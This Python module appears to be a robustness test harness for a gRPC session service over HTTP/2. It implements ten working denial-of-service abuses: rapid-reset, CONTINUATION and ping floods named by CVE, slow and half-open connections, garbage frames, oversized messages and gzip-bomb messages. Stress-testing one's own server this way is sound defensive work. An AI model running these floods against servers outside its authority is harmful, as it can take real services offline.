"""What no client of HTTP/2 (RFC 9113) should do to a server, each within bounds."""

from __future__ import annotations

import gzip
import random
import socket
import struct
from collections.abc import Callable, Iterator, Mapping
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from typing import Final

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
METHOD: Final = "/sessionstore.v1.SessionService/ValidateSession"
_TIMEOUT_S: Final = 30.0
_CONNECTIONS: Final = 20
_LARGEST_FRAME: Final = 16_384
_END_HEADERS: Final = "END_HEADERS"
_END_STREAM: Final = "END_STREAM"
_FRAME_HEADER: Final = 9
_WINDOW: Final = 65_535
"""Bytes that may be sent until the other side says more (RFC 9113, 6.9.2)."""
_LARGE: Final = 32 * 2**20
"""Bytes of a message: 32 times what the server takes."""


class Line:
    """A connection on which anything may be said."""

    def __init__(self, address: str) -> None:
        host, _, port = address.rpartition(":")
        self._socket = socket.create_connection((host, int(port)), timeout=_TIMEOUT_S)
        self._encoder = Encoder()
        self._line = self._stream = self._initial = _WINDOW

    def say(self, *parts: bytes | Frame) -> bool:
        """Send it all; whether the server took it, in time and without hanging up."""
        data = b"".join(part if isinstance(part, bytes) else part.serialize() for part in parts)
        try:
            self._socket.sendall(data)
        except OSError:
            return False
        return True

    def greet(self, *, reads: bool = True) -> None:
        """Begin as every client does, and leave room for answers or none."""
        settings = {} if reads else {SettingsFrame.INITIAL_WINDOW_SIZE: 0}
        more = WindowUpdateFrame(0, window_increment=2**30)
        self.say(PREFACE, SettingsFrame(0, settings=settings), more)

    def pour(self, data: bytes) -> bool:
        """Send it on stream 1 as fast as the server takes it; whether it took it all."""
        for at in range(0, len(data), _LARGEST_FRAME):
            part = data[at : at + _LARGEST_FRAME]
            while min(self._line, self._stream) < len(part):
                if not self.heed():
                    return False
            if not self.say(DataFrame(1, part)):
                return False
            self._line -= len(part)
            self._stream -= len(part)
        return True

    def call(self, stream: int, path: str | bytes = METHOD, **more: str) -> HeadersFrame:
        """The begin of a call, with more headers."""
        frame = HeadersFrame(stream, self.block(path, **more))
        frame.flags.add(_END_HEADERS)
        return frame

    def block(self, path: str | bytes = METHOD, **more: str) -> bytes:
        """The headers of a call."""
        return self._encoder.encode(
            [
                (":method", "POST"),
                (":scheme", "http"),
                (":path", path),
                (":authority", "localhost"),
                ("te", "trailers"),
                ("content-type", "application/grpc"),
                *((name.replace("_", "-"), value) for name, value in more.items()),
            ],
            huffman=False,
        )

    def close(self) -> None:
        """Hang up."""
        self._socket.close()

    def heed(self) -> bool:
        """Read a frame, and do what it says; whether stream 1 goes on."""
        try:
            frame, length = Frame.parse_frame_header(memoryview(self._read(_FRAME_HEADER)))
            frame.parse_body(memoryview(self._read(length)))
        except OSError:
            return False
        match frame:
            case SettingsFrame() if "ACK" not in frame.flags:
                before = self._initial
                self._initial = frame.settings.get(SettingsFrame.INITIAL_WINDOW_SIZE, before)
                self._stream += self._initial - before
                self.say(SettingsFrame(0, flags=["ACK"]))
            case PingFrame() if "ACK" not in frame.flags:
                self.say(PingFrame(0, frame.opaque_data, flags=["ACK"]))
            case WindowUpdateFrame(stream_id=0):
                self._line += frame.window_increment
            case WindowUpdateFrame():
                self._stream += frame.window_increment
        return not isinstance(frame, RstStreamFrame | GoAwayFrame | HeadersFrame)

    def _read(self, length: int) -> bytes:
        data = b""
        while len(data) < length:
            more = self._socket.recv(length - len(data))
            if not more:
                raise ConnectionResetError
            data += more
        return data


@contextmanager
def open_lines(address: str, count: int = _CONNECTIONS) -> Iterator[list[Line]]:
    """So many, until the context ends."""
    lines = [Line(address) for _ in range(count)]
    try:
        yield lines
    finally:
        for line in lines:
            line.close()


def rapid_resets(address: str, rounds: int) -> None:
    """Calls that are begun, or asked whole, and given up at once (CVE-2023-44487)."""
    with open_lines(address) as lines:
        for number, line in enumerate(lines):
            line.greet()
            for stream in range(1, 2 * 100 * rounds, 2):
                asked = [nothing(stream)] if number % 2 else []
                if not line.say(line.call(stream), *asked, RstStreamFrame(stream, error_code=8)):
                    break


def huge_headers(address: str, rounds: int) -> None:
    """Metadata of a megabyte, and headers that never end (CVE-2024-27316)."""
    with open_lines(address) as lines:
        for number, line in enumerate(lines):
            line.greet()
            if number % 2:
                block = line.block(x_much="x" * 2**20)
                head, *rest = _cut(block)
                frames: list[Frame] = [HeadersFrame(1, head)]
                frames += [ContinuationFrame(1, part) for part in rest]
                frames[-1].flags.add(_END_HEADERS)
                line.say(*frames)
                continue
            line.say(HeadersFrame(1, line.block()))
            for _ in range(50 * rounds):
                more = Encoder().encode([("x-more", "x" * (_LARGEST_FRAME // 2))], huffman=False)
                if not line.say(ContinuationFrame(1, more)):
                    break


def slow_bodies(address: str, rounds: int) -> None:
    """Messages that are announced and come a byte at a time, or not at all."""
    with open_lines(address) as lines:
        for line in lines:
            line.greet()
            for stream in range(1, 101, 2):
                line.say(line.call(stream), DataFrame(stream, struct.pack(">BI", 0, 2**20)))
        for _ in range(20 * rounds):
            for line in lines:
                line.say(*(DataFrame(stream, b"x") for stream in range(1, 101, 2)))


def half_open_connections(address: str, rounds: int) -> None:
    """Ones that say nothing, or half a greeting, or greet and say no more."""
    with open_lines(address, 100 * rounds) as lines:
        for number, line in enumerate(lines):
            if number % 3 == 1:
                line.say(PREFACE[: number % len(PREFACE)])
            elif number % 3 == 2:
                line.greet()


def ping_floods(address: str, rounds: int) -> None:
    """Pings and settings, whose answers nobody reads (CVE-2019-9512, CVE-2019-9515)."""
    pings = PingFrame(0, b"12345678").serialize() * 1_000
    settings = SettingsFrame(0).serialize() * 1_000
    with open_lines(address) as lines:
        for number, line in enumerate(lines):
            line.greet()
            for _ in range(5 * rounds):
                if not line.say(settings if number % 2 else pings):
                    break


def garbage_frames(address: str, rounds: int) -> None:
    """Anything at all, in place of a greeting or after it."""
    chance = random.Random(rounds)
    for number in range(50 * rounds):
        with open_lines(address, 1) as (line,):
            if number % 4:
                line.greet()
            if number % 4 == 1:
                line.say(chance.randbytes(chance.randint(1, 2**15)))
                continue
            for _ in range(chance.randint(1, 20)):
                body = chance.randbytes(chance.randint(0, 200))
                length = chance.choice((len(body), 2**24 - 1))
                kind, flags, stream = chance.randbytes(3)
                head = struct.pack(">I", length)[1:] + struct.pack(">BBI", kind, flags, stream % 8)
                if not line.say(head + body):
                    break


def oversized_messages(address: str, rounds: int) -> None:
    """Messages of many times what the server takes, by all rules of the protocol, at once."""
    message = struct.pack(">BI", 0, _LARGE) + bytes(_LARGE)

    def pour(line: Line) -> None:
        line.greet()
        line.say(line.call(1))
        line.pour(message)

    with open_lines(address, 2 * rounds) as lines, ThreadPoolExecutor() as pool:
        list(pool.map(pour, lines))


def inflated_messages(address: str, rounds: int) -> None:
    """Messages of a few kilobytes that are as large once they are decompressed."""
    packed = gzip.compress(bytes(_LARGE))
    message = struct.pack(">BI", 1, len(packed)) + packed

    def pour(line: Line) -> None:
        line.greet()
        line.say(line.call(1, grpc_encoding="gzip"))
        if line.pour(message):
            line.say(_last(1))
            while line.heed():
                pass

    with open_lines(address, 2 * rounds) as lines, ThreadPoolExecutor() as pool:
        list(pool.map(pour, lines))


def undecodable_paths(address: str, rounds: int) -> None:
    """Methods that there are not, some by names that are no text."""
    known = METHOD.encode()
    for path in (b"/a/\xff", b"\xff", known + b"\x80", "/no.such/Method", "/", "x" * 4096):
        with open_lines(address, rounds) as lines:
            for line in lines:
                line.greet()
                line.say(line.call(1, path), nothing(1))
                while line.heed():
                    pass


def unread_answers(address: str, rounds: int) -> None:
    """Calls whose answers the client leaves no room for (CVE-2019-9517)."""
    with open_lines(address) as lines:
        for line in lines:
            line.greet(reads=False)
            for stream in range(1, 2 * 50 * rounds, 2):
                if not line.say(line.call(stream), nothing(stream)):
                    break


def nothing(stream: int) -> DataFrame:
    """A message of no bytes, the last of its stream."""
    frame = DataFrame(stream, struct.pack(">BI", 0, 0))
    frame.flags.add(_END_STREAM)
    return frame


def _last(stream: int) -> DataFrame:
    """The end of a stream."""
    return DataFrame(stream, flags=[_END_STREAM])


def _cut(block: bytes) -> list[bytes]:
    return [block[at : at + _LARGEST_FRAME] for at in range(0, len(block), _LARGEST_FRAME)]


ABUSES: Final[Mapping[str, Callable[[str, int], None]]] = {
    abuse.__name__: abuse
    for abuse in (
        rapid_resets,
        huge_headers,
        slow_bodies,
        half_open_connections,
        ping_floods,
        garbage_frames,
        oversized_messages,
        inflated_messages,
        undecodable_paths,
        unread_answers,
    )
}
"""By name; each takes an address and how much of it, from 1."""
